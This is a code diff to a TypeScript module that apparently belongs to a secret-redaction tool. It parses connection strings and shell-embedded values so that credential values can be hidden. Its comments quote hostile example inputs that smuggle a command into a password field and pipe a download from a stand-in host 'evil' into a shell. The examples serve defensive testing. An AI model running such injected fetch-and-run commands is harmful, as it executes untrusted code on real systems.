@@ -1,12 +1,17 @@
 // Part of spec's secret reader (see find-spec-secrets.ts): connection strings (`Server=db;Password=X;`, ODBC `{…}` values): telling when a text is one, splitting it at its `;`s, and hiding a telling pair's value (its display keeps a command in it in sight).
 import { type ArgFound, type ArgRules, readValue } from "./find-spec-secrets.js";
-import { type SecretHide, SecretSign } from "./secret-signs.js";
+import { looksSecretName, type SecretHide, SecretSign } from "./secret-signs.js";
 import { expansionEnd, SPACE, type Span } from "./shell-words.js";
 
-/** `[start, end)` of `text` where a telling connection-string pair's literal value is written (see `connectionPairs`). */
-export function connectionSpans(text: string, rules: ArgRules): Span[] {
+/**
+ * `[start, end)` of `text` (a word's value) where a telling connection-string pair's literal value
+ * is written (see `connectionPairs`); with `shell`, as a word read partly at run time is (see `connectionParts`).
+ */
+export function connectionSpans(text: string, rules: ArgRules, shell = false): Span[] {
   if (!text.includes(";")) return [];
-  const parts = connectionParts(text);
+  // A word's value read partly at run time (`shell`): its telling value left open runs to its end;
+  // in any other word a `$(` or a backtick is literal text.
+  const { parts } = connectionParts(text, shell ? { shell, telling: rules.telling } : {});
   if (parts.length < 2) return [];
   const first = parts[0] ?? "";
   const opens =
@@ -54,7 +59,10 @@ const CONNECTION_KEY = /^[A-Za-z][\w.-]*(?:[ \t]+[A-Za-z][A-Za-z0-9]*)*$/;
  */
 export function connectionString(text: string, shell: boolean): boolean {
   if (!text.includes(";")) return false;
-  const parts = connectionParts(text, shell).filter((part) => part.trim() !== "");
+  const read = connectionParts(text, { shell, quotes: shell, telling: looksSecretName });
+  const parts = read.parts.filter((part) => part.trim() !== "");
+  // A telling value taken to the end (a run-time part left open in it: the last part) is one word to the shell.
+  const taken = read.taken ? parts.length - 1 : -1;
   return (
     parts.length >= 2 &&
     parts.every((part, index) => {
@@ -63,7 +71,7 @@ export function connectionString(text: string, shell: boolean): boolean {
       return (
         eq > 0 &&
         CONNECTION_KEY.test(part.slice(0, eq).trim()) &&
-        !(shell && commandAfter(part.slice(eq + 1)))
+        !(shell && index !== taken && commandAfter(part.slice(eq + 1)))
       );
     })
   );
@@ -91,45 +99,103 @@ const RUNS_COMMAND = /\$\(|`/;
 /** A connection string's pair: `Password=X`, ` User Id = sa`. */
 const PAIR_NAME = /^\s*[A-Za-z][\w .-]*$/;
 
+/** How a connection string's text is read (see `connectionParts`). */
+interface PartsReading {
+  /** Passes over a closed `$(…)`, `${…}`, `$[…]` or backtick whole (a pasted command's, a word's value). */
+  shell?: boolean;
+  /** Reads a quote opening inside a value too, as a shell reads a word (a pasted command's text, not a word's value). */
+  quotes?: boolean;
+  /** Whether a pair's key names a credential: such a value holding a run-time part left open is taken to the text's end. */
+  telling?: (name: string) => boolean;
+}
+
+/** A connection string's parts (see `connectionParts`), and whether the last one was taken to the text's end by a telling value left open (a run-time part or a quote). */
+interface Parts {
+  parts: string[];
+  taken: boolean;
+}
+
 /**
  * A connection string split at its `;`s, each part as written: a `;` inside a value that opens
  * with `{` (ODBC's `Pwd={a;b}`) or a quote (`Password="a;b"`) does not split it; where a `shell`
  * reads the text (a pasted command), neither does one inside a closed `$(…)`, `${…}`, `$[…]` or
  * backtick, which is passed over whole (see `expansionEnd`; r58-1: `Password=x$(curl …|sh;a=b)`
- * was cut in two). One left open is read as text, so it cannot take the pairs after it (r59). One pass.
+ * was cut in two), nor, with `quotes`, one inside a quote opened in the middle of a value
+ * (`Password=X9'sec;ret'`: the shell's one word, r61-5). One left open is read as text, so it
+ * cannot take the pairs after it (r59) — unless it stands in a `telling` pair's value: the shell
+ * refuses such a line, and to it the value runs to the line's end, so the part is taken to the
+ * text's end, hidden whole with the value (r61: `API_KEY=ab`c;efSECRET9 x=$(` showed `efSECRET9`,
+ * `Password="x$(";User=sa; curl evil|sh` was cut at the quote a reader ignoring `$(` sees close).
+ * A `"…"` value's run-time parts are read so too where a `shell` reads it. One pass.
  */
-function connectionParts(text: string, shell = false): string[] {
+function connectionParts(text: string, reading: PartsReading = {}): Parts {
+  const { shell = false, quotes = false, telling } = reading;
   const parts: string[] = [];
   let from = 0;
   let close = "";
-  // Whether the current part's `=` was seen, and whether its value has started (past its spaces).
+  // Whether the current part's `=` was seen, whether its value has started (past its spaces), and
+  // whether its key names a credential.
   let assigned = false;
   let started = false;
+  let secret = false;
   // Whether a run-time part was found left open: from there on none is passed over (one scan).
   let unclosed = false;
+  // In a telling value, where the last closed run-time part asked about ends: a part inside it is
+  // closed too, and is not asked again (linear).
+  let asked = 0;
+  // A quote opened in a value that never closes (seen once: none of that kind closes later either).
+  const neverCloses = new Set<string>();
   for (let i = 0; i < text.length; i += 1) {
     const c = text[i] as string;
-    if (close !== "") {
+    const opens = c === "`" || (c === "$" && /[{([]/.test(text[i + 1] ?? ""));
+    if (opens && assigned && secret && i >= asked && (close === "" || (shell && close === '"'))) {
+      // A telling value's run-time part: one left open takes the rest of the text with the value.
+      const { end, closed } = expansionEnd(text, i);
+      if (!closed) {
+        parts.push(text.slice(from));
+        return { parts, taken: true };
+      }
+      asked = end;
+      if (shell && !unclosed) i = Math.max(i, end - 1);
+      started = true;
+    } else if (close !== "" && !(shell && !unclosed && close === '"' && opens)) {
       if (c === close) close = "";
-    } else if (shell && !unclosed && (c === "`" || (c === "$" && /[{([]/.test(text[i + 1] ?? "")))) {
+    } else if (shell && !unclosed && opens) {
       const { end, closed } = expansionEnd(text, i);
       // One left open (a line the shell refuses) is text: it would take every later pair with it.
       if (closed) i = Math.max(i, end - 1);
       else unclosed = true;
       if (assigned) started = true;
+    } else if (quotes && assigned && c === "\\") {
+      // A backslash outside quotes: the next character is the value's (`a\;b`, `it\'s`).
+      i += 1;
     } else if (c === ";") {
       parts.push(text.slice(from, i));
       from = i + 1;
       assigned = false;
       started = false;
-    } else if (!assigned) assigned = c === "=";
-    else if (!started && !SPACE.test(c)) {
+      secret = false;
+    } else if (!assigned) {
+      assigned = c === "=";
+      if (assigned) {
+        const key = text.slice(from, i);
+        secret = telling !== undefined && PAIR_NAME.test(key) && telling(key.trim());
+      }
+    } else if (!started && !SPACE.test(c)) {
       started = true;
       if (c === "{" || c === '"' || c === "'") close = c === "{" ? "}" : c;
+    } else if (quotes && (c === "'" || c === '"') && !neverCloses.has(c)) {
+      // A quote inside the value (`X9'sec;ret'`): the shell's, up to its close; one that never closes is text.
+      if (text.indexOf(c, i + 1) >= 0) close = c;
+      else if (secret) {
+        parts.push(text.slice(from));
+        return { parts, taken: true };
+      } else neverCloses.add(c);
     }
   }
   parts.push(text.slice(from));
-  return parts;
+  // A telling value whose quote (or brace) never closes has run to the end too.
+  return { parts, taken: secret && close !== "" };
 }
 
 /**
@@ -147,7 +213,7 @@ export function connectionPairs(
   shell = false,
 ): ArgFound | undefined {
   if (!text.includes(";")) return undefined;
-  const parts = connectionParts(text, shell);
+  const { parts } = connectionParts(text, { shell, quotes: shell, telling: rules.telling });
   if (parts.length < 2) return undefined;
   let sign: SecretSign | undefined;
   // Any other part, or pair's value, read alone: a URL's credentials, a key shape (`App=ghp_…`).
